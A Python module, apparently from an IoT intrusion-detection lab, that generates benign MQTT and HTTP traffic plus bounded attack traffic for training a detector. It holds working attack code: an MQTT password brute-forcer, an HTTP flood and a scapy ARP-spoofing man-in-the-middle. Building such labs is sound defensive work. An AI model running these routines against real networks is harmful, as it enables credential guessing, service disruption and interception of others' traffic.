@@ -1,0 +1,148 @@
+"""The programs the lab runs inside its hosts' namespaces:
+``python -m iotids.lab.agents ROLE [options]``.
+
+Benign: ``sensor`` (MQTT telemetry at a jittered rate, and a camera snapshot
+now and then over HTTP), ``camera`` (an HTTP server). Attacks, each bounded
+in time and in attempts: ``mqtt-bruteforce``, ``http-flood``, ``arp-spoof``.
+Scans and packet floods use nmap and hping3 directly (see scenarios.py).
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import time
+import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+
+def sensor(args: argparse.Namespace) -> None:
+    import paho.mqtt.client as mqtt
+
+    rng = random.Random(args.seed)
+    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=args.name)
+    client.username_pw_set(args.user, args.password)
+    client.connect(args.broker, 1883, keepalive=30)
+    client.loop_start()
+    client.subscribe(f"sensors/{args.name}/cmd")
+    next_snapshot = time.monotonic() + rng.uniform(2, 6)
+    while True:
+        reading = {"sensor": args.name, "t": round(time.time(), 3), "temperature": round(rng.gauss(21, 2), 2),
+                   "humidity": round(rng.gauss(45, 5), 1), "battery": round(rng.uniform(60, 100), 1)}
+        client.publish(f"sensors/{args.name}/telemetry", json.dumps(reading), qos=rng.choice((0, 1)))
+        if args.camera and time.monotonic() >= next_snapshot:
+            try:
+                with urllib.request.urlopen(f"http://{args.camera}/snapshot.jpg", timeout=3) as answer:
+                    answer.read()
+            except OSError:
+                pass
+            next_snapshot = time.monotonic() + rng.uniform(4, 10)
+        time.sleep(max(0.05, rng.gauss(args.interval, args.interval / 4)))
+
+
+def camera(args: argparse.Namespace) -> None:
+    rng = random.Random(args.seed)
+    frames = [rng.randbytes(rng.randint(20_000, 60_000)) for _ in range(4)]
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 -- the http.server API
+            body = rng.choice(frames) if self.path.startswith("/snapshot") else b'{"status":"ok"}'
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    ThreadingHTTPServer(("0.0.0.0", args.port), Handler).serve_forever()
+
+
+def mqtt_bruteforce(args: argparse.Namespace) -> None:
+    """Guess passwords: one connection per guess, as brute-force tools do."""
+    import paho.mqtt.client as mqtt
+
+    rng = random.Random(args.seed)
+    deadline = time.monotonic() + args.seconds
+    for attempt in range(args.attempts):
+        if time.monotonic() >= deadline:
+            break
+        client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=f"guess{attempt}")
+        client.username_pw_set(args.user, f"pw{rng.randrange(10**6):06d}")
+        try:
+            client.connect(args.broker, 1883, keepalive=5)
+            client.loop(timeout=0.5)
+            client.loop(timeout=0.5)
+        except OSError:
+            pass
+        finally:
+            client.disconnect()
+        time.sleep(args.pause)
+
+
+def http_flood(args: argparse.Namespace) -> None:
+    deadline = time.monotonic() + args.seconds
+    for _ in range(args.attempts):
+        if time.monotonic() >= deadline:
+            break
+        try:
+            with urllib.request.urlopen(f"http://{args.target}/status", timeout=2) as answer:
+                answer.read()
+        except OSError:
+            pass
+
+
+def arp_spoof(args: argparse.Namespace) -> None:
+    """Tell the victim that the gateway's address is at our MAC, and the gateway
+    the same of the victim (a man in the middle; the lab enables forwarding)."""
+    from scapy.all import ARP, Ether, sendp
+
+    deadline = time.monotonic() + args.seconds
+    packets = [Ether(dst=args.victim_mac) / ARP(op=2, psrc=args.gateway, pdst=args.victim, hwdst=args.victim_mac),
+               Ether(dst=args.gateway_mac) / ARP(op=2, psrc=args.victim, pdst=args.gateway, hwdst=args.gateway_mac)]
+    while time.monotonic() < deadline:
+        sendp(packets, iface="eth0", verbose=False)
+        time.sleep(0.5)
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(prog="python -m iotids.lab.agents")
+    roles = parser.add_subparsers(dest="role", required=True)
+    p = roles.add_parser("sensor")
+    p.add_argument("--name", required=True)
+    p.add_argument("--broker", required=True)
+    p.add_argument("--user", required=True)
+    p.add_argument("--password", required=True)
+    p.add_argument("--camera", default="")
+    p.add_argument("--interval", type=float, default=1.0)
+    p.add_argument("--seed", type=int, default=0)
+    p = roles.add_parser("camera")
+    p.add_argument("--port", type=int, default=80)
+    p.add_argument("--seed", type=int, default=0)
+    for name in ("mqtt-bruteforce", "http-flood"):
+        p = roles.add_parser(name)
+        p.add_argument("--seconds", type=float, required=True)
+        p.add_argument("--attempts", type=int, required=True)
+        p.add_argument("--seed", type=int, default=0)
+        if name == "mqtt-bruteforce":
+            p.add_argument("--broker", required=True)
+            p.add_argument("--user", required=True)
+            p.add_argument("--pause", type=float, default=0.05)
+        else:
+            p.add_argument("--target", required=True)
+    p = roles.add_parser("arp-spoof")
+    p.add_argument("--seconds", type=float, required=True)
+    for name in ("victim", "victim-mac", "gateway", "gateway-mac"):
+        p.add_argument(f"--{name}", required=True)
+    args = parser.parse_args()
+    handlers = {"sensor": sensor, "camera": camera, "mqtt-bruteforce": mqtt_bruteforce, "http-flood": http_flood,
+                "arp-spoof": arp_spoof}
+    try:
+        handlers[args.role](args)
+    except KeyboardInterrupt:
+        pass
+
+
+if __name__ == "__main__":
+    main()
